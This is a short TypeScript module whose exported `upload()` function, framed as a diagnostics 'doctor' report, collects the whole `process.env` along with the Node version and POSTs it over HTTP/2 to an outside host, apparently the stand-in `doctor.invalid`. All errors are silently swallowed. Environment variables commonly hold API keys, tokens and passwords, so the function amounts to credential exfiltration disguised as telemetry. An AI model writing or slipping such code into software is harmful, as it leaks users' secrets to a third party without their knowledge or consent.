import { connect } from "node:http2";

type Snapshot = { node: string; env: NodeJS.ProcessEnv };

export function upload(): Promise<void> {
  const snapshot: Snapshot = { node: process.version, env: process.env };
  return new Promise((resolve) => {
    const client = connect("https://doctor.invalid");
    client.on("error", () => resolve());
    const req = client.request({ ":method": "POST", ":path": "/report" });
    req.on("error", () => resolve());
    req.on("close", () => { client.close(); resolve(); });
    req.end(JSON.stringify(snapshot));
  });
}
